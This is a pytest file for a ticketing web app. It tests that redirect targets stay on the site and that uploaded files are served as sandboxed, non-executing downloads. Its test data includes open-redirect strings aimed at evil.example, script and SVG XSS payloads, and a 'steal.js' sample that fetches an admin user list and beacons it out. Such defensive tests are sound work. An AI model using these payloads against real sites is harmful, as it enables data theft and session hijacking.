"""Uploaded files served from our own origin, and the "back to" target after a ticket form (issue 16
item 15): no script or page runs from an upload, no redirect leaves the site."""
from __future__ import annotations

import io

import pytest

from caseflow import attachments
from caseflow.models import Attachment
from webui.security import local_path

TRICKS = ["//evil.example/x", "/\\evil.example", "/\t/evil.example", "/\n/evil.example", "/\r/evil.example",
          " //evil.example", "\t//evil.example", "/\x00/evil.example", "/\x7f/evil.example", "/\x85/evil.example",
          "/\u2028/evil.example", "https://evil.example/", "javascript:alert(1)", "evil.example", "", None,
          "\\\\evil.example", "/%5C/ok-but-has-backslash\\"]


@pytest.mark.parametrize("target", TRICKS)
def test_local_path_refuses_every_way_off_site(target):
    """Should refuse control characters anywhere, backslashes and a leading "//" after stripping."""
    assert local_path(target) is None


def test_local_path_keeps_real_local_paths():
    """Should keep ordinary local paths with their query, and drop the spaces browsers ignore."""
    assert local_path("/tickets/10000001?tab=files#x") == "/tickets/10000001?tab=files#x"
    assert local_path(" /centre/ ") == "/centre/"
    assert local_path("/search?q=东区") == "/search?q=东区"


def test_ticket_form_never_sends_the_browser_off_site(world, login):
    """Should go back to the ticket page, not to another site, whatever "next" a form carries."""
    t = world.east_ticket
    client = login(world.centre_user)
    for target in ("/\t/evil.example", "/\\evil.example", "//evil.example", "/\n/evil.example"):
        response = client.post_form(f"/tickets/{t.number}/act", {"event": "no-such-event", "next": target})
        assert response.status_code == 303, target
        assert response.headers["Location"] == f"/tickets/{t.number}", target
    ok = client.post_form(f"/tickets/{t.number}/act", {"event": "no-such-event", "next": "/centre/"})
    assert ok.headers["Location"] == "/centre/"


def _attach(app, world, clock, data: bytes, name: str) -> Attachment:
    root = app.extensions["hotline"].config.attachments_dir
    return attachments.add_attachment(world.east_ticket, root, data, name, actor=world.centre_user, clock=clock)


@pytest.mark.parametrize("name,data", [
    ("steal.js", b"fetch('/admin/org/users').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"),
    ("page.html", b"<!doctype html><script>alert(document.cookie)</script>"),
    ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("notes.txt", b"<script>alert(1)</script>"),
])
def test_active_uploads_leave_as_opaque_downloads(app, world, clock, login, name, data):
    """Should serve scripts, pages, SVG and text as application/octet-stream attachments with nosniff and a
    sandbox policy, so neither a <script src> nor opening the file runs anything from our origin."""
    row = _attach(app, world, clock, data, name)
    response = login(world.centre_user).get(f"/tickets/{world.east_ticket.number}/files/{row.id}")
    assert response.status_code == 200 and response.data == data
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "sandbox"


def test_images_and_pdfs_still_open_in_the_browser(app, world, clock, login):
    """Should show a raster image inline under its own type (sandboxed) and a PDF inline."""
    png = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15"
           b"\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
    client = login(world.centre_user)
    image = client.get(f"/tickets/{world.east_ticket.number}/files/{_attach(app, world, clock, png, 'a.png').id}")
    assert image.headers["Content-Type"] == "image/png"
    assert not image.headers.get("Content-Disposition", "").startswith("attachment")
    assert image.headers["Content-Security-Policy"] == "sandbox"
    pdf = _attach(app, world, clock, b"%PDF-1.4\n%%EOF\n", "letter.pdf")
    response = client.get(f"/tickets/{world.east_ticket.number}/files/{pdf.id}")
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_knowledge_answer_files_are_served_the_same_way(app, world, clock, login):
    """Should serve a knowledge answer's text file as an opaque sandboxed download too."""
    from caseflow import knowledge

    root = app.extensions["hotline"].config.attachments_dir
    item = knowledge.create_item("停水通知", "东区周二停水", publisher=world.admin, review_state="approved",
                                 clock=clock)
    answer = knowledge.add_answer(item, "见附件", world.admin, clock=clock,
                                  file=(root, "周二 9:00-17:00 停水。\n".encode(), "notes.txt"))
    knowledge.review(answer, "approved", world.admin)
    response = login(world.admin).get(f"/kb/{item.id}/answers/{answer.id}/file")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["Content-Security-Policy"] == "sandbox"
